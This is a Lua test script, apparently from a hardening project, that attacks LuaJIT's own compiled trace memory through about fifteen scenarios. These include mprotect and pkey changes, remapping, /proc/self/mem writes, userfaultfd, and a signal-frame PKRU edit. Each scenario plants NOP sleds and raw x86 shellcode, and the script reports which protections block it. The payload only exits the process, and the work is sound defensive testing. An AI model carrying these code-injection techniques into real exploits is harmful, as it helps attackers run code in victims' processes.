-- attack/attack.lua SCENARIO - the attacker inside an unmodified LuaJIT.
--
-- One hot function is compiled to one trace (jit.off() follows, so that
-- no second trace is ever compiled: policies that seal permissions would
-- stop LuaJIT at its second trace, before the attack).  The attacker finds
-- the trace's machine code with jit.util.tracemc(), and the area that
-- holds it in /proc/self/maps, snapshots it (the maps lines over the area,
-- the trace's bytes read through /proc/self/mem, which pages are
-- resident), makes ONE corrupted mm call through FFI (syscall(2) itself,
-- as a corrupted pointer reaching the kernel would: the preload library's
-- wrappers see only LuaJIT's own calls) plus, where a real exploit would,
-- the ordinary follow-up that plants its bytes, snapshots again and runs
-- the trace again.
--
-- The attacker's stores into the code are tried first in a forked child
-- (store_faults): where the code is mapped writable but its protection
-- key denies this thread writes (realjit/luajit/series/), the store faults, the
-- child dies of SIGSEGV, and the attack goes on without it; "SIGSEGV"
-- is then the attack's errno.
--
-- Prints (stdout, flushed before the trace runs again):
--   attack scenario=S call=ok|ERRNO outcome=LANDED|BLOCKED|ERROR errno=E changed=WHAT
--          area=ADDR+LEN trace=ADDR+LEN pkey=K
--   rerun value=ok|wrong
-- pkey: the area's protection key (smaps' ProtectionKey, "-" without one).
-- The attacker's bytes are `mov edi, 65; mov eax, 231; syscall`:
-- exit_group(65).  A process that exits 65 ran them; one killed by a
-- signal ran what the attack left there (zeros, nothing).
-- Exits 0 after the rerun, 2 on misuse, 4 when the attacker's own setup
-- failed (the case proves nothing).
local ffi = require("ffi")
local jutil = require("jit.util")
local bit = require("bit")

ffi.cdef([[
long syscall(long number, ...);
int open(const char *path, int flags, ...);
long pread64(int fd, void *buf, size_t count, long offset);
long pwrite64(int fd, const void *buf, size_t count, long offset);
int close(int fd);
int mprotect(void *addr, size_t len, int prot);
int fork(void);
int waitpid(int pid, int *status, int options);
void _exit(int status);
]])
local C = ffi.C

local SYS = { mmap = 9, mprotect = 10, munmap = 11, mremap = 25,
	mincore = 27, madvise = 28, shmget = 29, shmat = 30, shmctl = 31,
	ioctl = 16, userfaultfd = 323, pkey_mprotect = 329, pkey_alloc = 330,
	pkey_free = 331 }
local PROT_R, PROT_W, PROT_X = 1, 2, 4
local MAP_PRIVATE, MAP_FIXED, MAP_ANON, MAP_FIXED_NOREPLACE = 0x2, 0x10, 0x20, 0x100000
local MREMAP_MAYMOVE, MREMAP_FIXED = 1, 2
local MADV_DONTNEED = 4
local IPC_PRIVATE, IPC_CREAT, IPC_RMID = 0, 512, 0
local SHM_REMAP, SHM_EXEC = 16384, 32768
local O_RDONLY, O_RDWR, O_CLOEXEC, O_NONBLOCK = 0, 2, 524288, 2048
local UFFD_USER_MODE_ONLY, UFFD_API = 1, 0xAA
local UFFDIO_API, UFFDIO_REGISTER, UFFDIO_COPY = 0xc018aa3f, 0xc020aa00, 0xc028aa03
local UFFDIO_REGISTER_MODE_MISSING = 1
local PAGE = 4096
local ONE_GIB = 2 ^ 30
local EXIT_SETUP = 4

local PAYLOAD = "\191\65\0\0\0\184\231\0\0\0\15\5" -- mov edi,65; mov eax,231; syscall
local ERRNO_NAMES = { [1] = "EPERM", [2] = "ENOENT", [5] = "EIO", [9] = "EBADF",
	[12] = "ENOMEM", [13] = "EACCES", [14] = "EFAULT", [16] = "EBUSY",
	[17] = "EEXIST", [22] = "EINVAL", [28] = "ENOSPC", [38] = "ENOSYS",
	[95] = "EOPNOTSUPP" }

local SIGSEGV = 11

-- A number is an errno; a string ("SIGSEGV") is already a name.
local function errno_name(e)
	if type(e) == "string" then return e end
	return ERRNO_NAMES[e] or ("E" .. tostring(e))
end

local function setup_failed(what)
	io.stdout:write("attack setup-failed: ", what, "\n")
	io.stdout:flush()
	os.exit(EXIT_SETUP)
end

-- syscall(2) with every argument passed as a long (a Lua number would go
-- through the varargs as a double).  Returns the result and the errno.
local function sys(nr, ...)
	local args = { ... }
	for i = 1, select("#", ...) do args[i] = ffi.cast("long", args[i]) end
	local rc = C.syscall(nr, unpack(args, 1, select("#", ...)))
	return tonumber(rc), ffi.errno()
end

-- 0 when the call succeeded, else its errno.
local function answer(rc, err)
	if rc == -1 then return err end
	return 0
end

local function ptr(address)
	return ffi.cast("uint8_t *", ffi.cast("uintptr_t", address))
end

-- The victim: one loop, one trace.  Its answer is known in closed form.
local function victim(n)
	local s = 0
	for i = 1, n do s = s + i * 3 end
	return s
end
local N = 1000
local EXPECTED = 3 * N * (N + 1) / 2

local function hot_trace()
	for _ = 1, 4 do victim(N) end
	jit.off()
	for tr = 1, 16 do
		local mcode, address = jutil.tracemc(tr)
		if mcode then return address, #mcode end
	end
	setup_failed("no trace was compiled (is the JIT on?)")
end

local function area_holding(address)
	for line in io.lines("/proc/self/maps") do
		local lo, hi = line:match("^(%x+)-(%x+)")
		lo, hi = tonumber(lo, 16), tonumber(hi, 16)
		if lo <= address and address < hi then return lo, hi end
	end
	setup_failed("the trace's address is in no mapping")
end

local function maps_over(lo, hi)
	local lines = {}
	for line in io.lines("/proc/self/maps") do
		local a, b, perms = line:match("^(%x+)-(%x+) (%S+)")
		if tonumber(a, 16) < hi and lo < tonumber(b, 16) then
			lines[#lines + 1] = a .. "-" .. b .. " " .. perms
		end
	end
	return table.concat(lines, ",")
end

local mem_fd = C.open("/proc/self/mem", O_RDONLY + O_CLOEXEC)
if mem_fd < 0 then setup_failed("cannot open /proc/self/mem") end

local function read_code(address, size)
	local buf = ffi.new("uint8_t[?]", size)
	local got = tonumber(C.pread64(mem_fd, buf, size, ffi.cast("long", address)))
	if got ~= size then return "unreadable" end
	return ffi.string(buf, size)
end

-- One character per page of [lo, hi): 1 resident, 0 not, ? unknown.
local function residency(lo, hi)
	local pages = (hi - lo) / PAGE
	local vec = ffi.new("unsigned char[?]", pages)
	local rc = sys(SYS.mincore, lo, hi - lo, vec)
	if rc ~= 0 then return "?" end
	local out = {}
	for i = 0, pages - 1 do out[#out + 1] = bit.band(vec[i], 1) == 1 and "1" or "0" end
	return table.concat(out)
end

local target = {}

local function snapshot()
	return { maps = maps_over(target.lo, target.hi),
		code = read_code(target.address, target.size),
		resident = residency(target.lo, target.hi) }
end

local function changes(before, after)
	local what = {}
	for _, k in ipairs({ "maps", "code", "resident" }) do
		if before[k] ~= after[k] then what[#what + 1] = k end
	end
	return what
end

-- The attacker's replacement pages: NOPs, the payload at the end of each
-- page, so a jump anywhere into them reaches the payload.
local function fill_sled(address, len)
	local p = ptr(address)
	ffi.fill(p, len, 0x90)
	for page = PAGE, len, PAGE do
		ffi.copy(p + page - #PAYLOAD, PAYLOAD, #PAYLOAD)
	end
end

local function map_sled(address, len)
	local rc = sys(SYS.mmap, address, len, PROT_R + PROT_W + PROT_X,
		MAP_PRIVATE + MAP_ANON + MAP_FIXED, -1, 0)
	if rc == address then fill_sled(address, len) end
end

-- Does an ordinary store of BYTES at ADDRESS fault for this thread?  Tried
-- in a forked child, which has this thread's rights (PKRU included).
local function store_faults(address, bytes)
	local pid = C.fork()
	if pid == 0 then
		ffi.copy(ptr(address), bytes, #bytes)
		C._exit(0)
	end
	if pid < 0 then setup_failed("fork") end
	local status = ffi.new("int[1]")
	if C.waitpid(pid, status, 0) ~= pid then setup_failed("waitpid") end
	if status[0] == 0 then return false end
	if bit.band(status[0], 0x7f) == SIGSEGV then return true end
	setup_failed("the store's child ended with status " .. status[0])
end

-- The attacker's bytes over the trace: 0, or "SIGSEGV" where the store
-- faults (nothing is written).
local function plant_payload()
	if store_faults(target.address, PAYLOAD) then return "SIGSEGV" end
	ffi.copy(ptr(target.address), PAYLOAD, #PAYLOAD)
	return 0
end

local function whole_len() return target.hi - target.lo end
local RWX = PROT_R + PROT_W + PROT_X

local scenarios = {}

scenarios["mprotect-rw"] = function()
	local e = answer(sys(SYS.mprotect, target.lo, whole_len(), PROT_R + PROT_W))
	if e == 0 then
		e = plant_payload()
		sys(SYS.mprotect, target.lo, whole_len(), PROT_R + PROT_X)
	end
	return e
end

-- The same call through libc's mprotect(), as a corrupted pointer passed
-- to a call the program makes would reach it (and any library that
-- interposes it).
scenarios["libc-mprotect"] = function()
	local rw = C.mprotect(ptr(target.lo), whole_len(), PROT_R + PROT_W)
	local e = answer(rw, ffi.errno())
	if e == 0 then
		e = plant_payload()
		C.mprotect(ptr(target.lo), whole_len(), PROT_R + PROT_X)
	end
	return e
end

scenarios["mprotect-rwx"] = function()
	local e = answer(sys(SYS.mprotect, target.lo, whole_len(), RWX))
	if e == 0 then e = plant_payload() end
	return e
end

-- The attacker's own key (all rights in this thread) on the code.
scenarios["pkey-mprotect-rwx"] = function()
	local pkey = sys(SYS.pkey_alloc, 0, 0)
	local e = answer(sys(SYS.pkey_mprotect, target.lo, whole_len(), RWX, pkey))
	if e == 0 then e = plant_payload() end
	return e
end

-- No call at all: an ordinary store into the code, as a write primitive
-- would make.  W^X refuses it (read-execute pages, or a closed key).
scenarios["store-code"] = function()
	return plant_payload()
end

scenarios["mremap-move"] = function()
	local away = target.lo + ONE_GIB
	local hold = sys(SYS.mmap, away, whole_len(), 0,
		MAP_PRIVATE + MAP_ANON + MAP_FIXED_NOREPLACE, -1, 0)
	if hold ~= away then setup_failed("cannot hold the range 1 GiB above the code") end
	local e = answer(sys(SYS.mremap, target.lo, whole_len(), whole_len(),
		MREMAP_MAYMOVE + MREMAP_FIXED, away))
	if e == 0 then map_sled(target.lo, whole_len()) end
	return e
end

scenarios["mremap-shrink"] = function()
	local e = answer(sys(SYS.mremap, target.lo, whole_len(), whole_len() - PAGE, 0))
	if e == 0 then map_sled(target.hi - PAGE, PAGE) end
	return e
end

scenarios["mmap-fixed-anon"] = function()
	local rc, err = sys(SYS.mmap, target.lo, whole_len(), RWX,
		MAP_PRIVATE + MAP_ANON + MAP_FIXED, -1, 0)
	if rc == target.lo then fill_sled(target.lo, whole_len()) return 0 end
	return answer(-1, err)
end

scenarios["munmap-mmap"] = function()
	local e = answer(sys(SYS.munmap, target.lo, whole_len()))
	if e == 0 then map_sled(target.lo, whole_len()) end
	return e
end

scenarios["shmat-remap"] = function()
	local id = sys(SYS.shmget, IPC_PRIVATE, whole_len(), IPC_CREAT + 384)
	if id < 0 then setup_failed("shmget") end
	local seg = sys(SYS.shmat, id, 0, 0)
	if seg == -1 then setup_failed("shmat of the attacker's own segment") end
	fill_sled(seg, whole_len())
	local e = answer(sys(SYS.shmat, id, target.lo, SHM_REMAP + SHM_EXEC))
	sys(SYS.shmctl, id, IPC_RMID, 0)
	return e
end

scenarios["madvise-dontneed"] = function()
	return answer(sys(SYS.madvise, target.lo, whole_len(), MADV_DONTNEED))
end

scenarios["proc-mem-write"] = function()
	local fd = C.open("/proc/self/mem", O_RDWR + O_CLOEXEC)
	if fd < 0 then setup_failed("open /proc/self/mem read-write") end
	local wrote = tonumber(C.pwrite64(fd, PAYLOAD, #PAYLOAD, ffi.cast("long", target.address)))
	local err = ffi.errno()
	C.close(fd)
	if wrote == #PAYLOAD then return 0 end
	return err
end

-- A page of the area LuaJIT never wrote (it writes traces from the top
-- down and its link header at the bottom): never faulted, so
-- userfaultfd's MISSING mode can fill it.
local function unfaulted_page()
	local map = residency(target.lo, target.hi)
	local trace_page = math.floor((target.address - target.lo) / PAGE) + 1
	for i = #map, 1, -1 do
		if map:sub(i, i) == "0" and i ~= trace_page then
			return target.lo + (i - 1) * PAGE
		end
	end
	setup_failed("every page of the code area is resident")
end

scenarios["uffd-fill"] = function()
	local page = unfaulted_page()
	local fd = sys(SYS.userfaultfd, O_CLOEXEC + O_NONBLOCK + UFFD_USER_MODE_ONLY)
	if fd < 0 then setup_failed("userfaultfd(UFFD_USER_MODE_ONLY)") end
	local api = ffi.new("uint64_t[3]", UFFD_API, 0, 0)
	if sys(SYS.ioctl, fd, UFFDIO_API, api) ~= 0 then setup_failed("UFFDIO_API") end
	local reg = ffi.new("uint64_t[4]", page, PAGE, UFFDIO_REGISTER_MODE_MISSING, 0)
	local e = answer(sys(SYS.ioctl, fd, UFFDIO_REGISTER, reg))
	if e ~= 0 then return e end
	local src = ffi.new("uint8_t[?]", PAGE)
	fill_sled(tonumber(ffi.cast("uintptr_t", src)), PAGE)
	local copy = ffi.new("int64_t[5]", page, ffi.cast("uintptr_t", src), PAGE, 0, 0)
	return answer(sys(SYS.ioctl, fd, UFFDIO_COPY, copy))
end

-- The area's protection key, from smaps ("-" where smaps has none).
local function area_pkey(lo)
	local inside = false
	for line in io.lines("/proc/self/smaps") do
		local a = line:match("^(%x+)-%x+ ")
		if a then inside = (tonumber(a, 16) == lo)
		elseif inside then
			local key = line:match("^ProtectionKey:%s+(%d+)")
			if key then return key end
		end
	end
	return "-"
end

-- Key openers (issue 41): the kernel opens the code's key for this
-- thread, then the ordinary store (plant_payload: the forked child has
-- this thread's PKRU).  Where the code has no key of its own (Debian's
-- LuaJIT: key 0, r-x), the store meets W^X as store-code does.

-- pkey_free() of the code's key, pkey_alloc(0, 0): the same number comes
-- back with rights 0 (write allowed) in this thread's PKRU.
scenarios["pkey-realloc"] = function()
	local key = tonumber(area_pkey(target.lo))
	if key and key > 0 then
		local e = answer(sys(SYS.pkey_free, key))
		if e ~= 0 then return e end
		sys(SYS.pkey_alloc, 0, 0)
	end
	return plant_payload()
end

ffi.cdef([[
struct lj_attack_sigaction { void *handler; unsigned long mask[16]; int flags; void *restorer; };
int sigaction(int sig, const struct lj_attack_sigaction *act, struct lj_attack_sigaction *old);
int raise(int sig);
]])
local SIGUSR1, SA_SIGINFO = 10, 4

-- A SIGUSR1 handler that sets PKRU to 0 in its own frame's XSAVE image
-- (uc_mcontext.fpregs at 0xe0 in the ucontext; bit 9 of xstate_bv at
-- 0x200; PKRU where CPUID.(0xd, 9).EBX says), then returns through
-- rt_sigreturn, which restores it.  The attacker's 43 bytes in a page of
-- its own stand for any write into a signal frame (SROP, a write
-- primitive into the stack): what is measured is the kernel's
-- rt_sigreturn, whether it takes PKRU from the frame.
local FRAME_EDIT = "\83\73\137\208\184\13\0\0\0\185\9\0\0\0\15\162" ..
	"\73\139\128\224\0\0\0\72\129\136\0\2\0\0\0\2\0\0" ..
	"\199\4\24\0\0\0\0\91\195"
scenarios["sigreturn-pkru"] = function()
	local key = tonumber(area_pkey(target.lo))
	if not (key and key > 0) then return plant_payload() end -- no PKRU to edit
	local page = sys(SYS.mmap, 0, PAGE, RWX, MAP_PRIVATE + MAP_ANON, -1, 0)
	if page == -1 then setup_failed("mmap of the handler's page") end
	ffi.copy(ptr(page), FRAME_EDIT, #FRAME_EDIT)
	local act = ffi.new("struct lj_attack_sigaction")
	act.handler = ffi.cast("void *", ffi.cast("uintptr_t", page))
	act.flags = SA_SIGINFO
	if C.sigaction(SIGUSR1, act, nil) ~= 0 then setup_failed("sigaction") end
	C.raise(SIGUSR1)
	return plant_payload()
end

local function verdict(err, what)
	if err == 0 and #what > 0 then return "LANDED", "-" end
	if err ~= 0 and #what == 0 then return "BLOCKED", errno_name(err) end
	if err ~= 0 then return "LANDED", errno_name(err) end
	return "ERROR", "-"
end

local function main(name)
	local attack = scenarios[name]
	if not attack then
		local names = {}
		for k in pairs(scenarios) do names[#names + 1] = k end
		table.sort(names)
		io.stderr:write("usage: attack.lua SCENARIO (", table.concat(names, " "), ")\n")
		os.exit(2)
	end
	target.address, target.size = hot_trace()
	target.lo, target.hi = area_holding(target.address)
	local pkey = area_pkey(target.lo)
	local before = snapshot()
	local err = attack()
	local what = changes(before, snapshot())
	local outcome, errno = verdict(err, what)
	io.stdout:write(string.format(
		"attack scenario=%s call=%s outcome=%s errno=%s changed=%s area=%x+%d trace=%x+%d pkey=%s\n",
		name, err == 0 and "ok" or errno_name(err), outcome, errno,
		#what > 0 and table.concat(what, ",") or "-",
		target.lo, target.hi - target.lo, target.address, target.size, pkey))
	io.stdout:flush()
	local value = victim(N)
	io.stdout:write("rerun value=", value == EXPECTED and "ok" or ("wrong:" .. tostring(value)), "\n")
end

if arg[1] == "--list" then
	local names = {}
	for k in pairs(scenarios) do names[#names + 1] = k end
	table.sort(names)
	print(table.concat(names, "\n"))
	os.exit(0)
end
main(arg[1])
